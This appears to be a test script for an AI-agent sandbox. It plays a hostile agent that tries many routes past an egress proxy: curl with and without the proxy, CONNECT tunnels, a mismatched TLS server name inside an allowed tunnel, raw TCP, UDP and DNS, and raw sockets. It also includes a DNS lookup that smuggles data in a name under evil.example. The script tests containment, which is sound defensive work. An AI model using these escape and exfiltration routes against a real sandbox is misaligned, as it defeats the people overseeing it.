/**
 * The hostile agent tries to reach hosts that it is not allowed to, by every way that a tool might take. What each way came to is in the report: the last words of curl, a status
 * of the proxy, or the code of an error. `node egress.mjs <arguments.json> <report.json>`.
 */
import { spawnSync } from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns';
import { readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import tls from 'node:tls';

const args = JSON.parse(readFileSync(process.argv[2], 'utf8'));
const TIMEOUT_MS = 4000;
const proxy = new URL(process.env.HTTPS_PROXY);

/** What curl said, of a request as any script would make it: the proxy comes from the environment. */
function curl(...words) {
  const { status, stdout, stderr } = spawnSync('curl', ['-sS', '-m', '15', ...words], { encoding: 'utf8' });
  return status === 0 ? `ok ${stdout.trim()}` : `${status} ${stderr.trim()}`;
}

/** Status, reason and headers of a CONNECT, or of a request in absolute form. */
function ask(method, path) {
  return new Promise((resolve) => {
    const request = http.request({ host: proxy.hostname, port: proxy.port, method, path, agent: false });
    const end = ({ statusCode, statusMessage, headers }, socket) => {
      resolve(`${statusCode} ${headers['x-berth-egress'] ?? ''} ${statusMessage}`);
      socket?.destroy();
      request.destroy();
    };
    request.once('connect', end).once('response', end);
    request.once('error', (error) => resolve(error.code ?? 'error'));
    request.end();
  });
}

/** A tunnel to one host, in which another is asked for. */
function askWithin(authority, serverName) {
  return new Promise((resolve) => {
    const request = http.request({
      host: proxy.hostname,
      port: proxy.port,
      method: 'CONNECT',
      path: authority,
    });
    request.once('connect', (response, socket) => {
      const secured = tls.connect({ socket, servername: serverName, rejectUnauthorized: false });
      secured.once('secureConnect', () => resolve('connected'));
      secured.once('error', (error) => resolve(error.code ?? 'error'));
    });
    request.once('error', (error) => resolve(error.code ?? 'error'));
    request.end();
  });
}

function knock(host, port) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, timeout: TIMEOUT_MS });
    const end = (word) => resolve(socket.destroy() && word);
    socket.once('connect', () => end('connected')).once('timeout', () => end('timeout'));
    socket.once('error', (error) => end(error.code ?? 'error'));
  });
}

/** `answered`, or why not, of a question over UDP. */
function askDns(server) {
  return new Promise((resolve) => {
    const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
    resolver.setServers([server]);
    resolver.resolve4('secret-in-a-name.evil.example', (error) => resolve(error ? error.code : 'answered'));
  });
}

function sendUdp(host, port) {
  return new Promise((resolve) => {
    const socket = dgram.createSocket(host.includes(':') ? 'udp6' : 'udp4');
    socket.on('error', (error) => resolve(error.code));
    socket.send('x', port, host, (error) => resolve(error ? error.code : 'sent'));
  });
}

const perl = (script) => spawnSync('perl', ['-MSocket', '-e', script], { encoding: 'utf8' }).stdout;
const raw = (family, type, protocol) =>
  perl(`print socket(my $s, ${family}, ${type}, ${protocol}) ? "open" : "refused"`);

async function each(names, work) {
  const found = {};
  for (const name of names) found[name] = await work(name);
  return found;
}

const report = {
  allowed: curl('--cacert', args.certificate, `https://${args.allowed}/hello`),
  curl: await each(args.urls, (url) => curl('-k', '-L', url)),
  withoutProxy: await each(args.urls, (url) => curl('-k', '-L', '--noproxy', '*', url)),
  connect: await each(args.authorities, (authority) => ask('CONNECT', authority)),
  absolute: await each(args.absolute, (url) => ask('GET', url)),
  within: await each(args.within, (name) => askWithin(`${args.allowed}:443`, name)),
  tcp: await each(args.tcp, (at) => knock(...at.split(' '))),
  udp: await each(args.udp, (at) => sendUdp(...at.split(' '))),
  dns: await each(args.nameServers, askDns),
  raw: { ip: raw(2, 3, 1), ip6: raw(10, 3, 58), packet: raw(17, 3, 768) },
};
writeFileSync(process.argv[3], JSON.stringify(report));
process.exit(0);
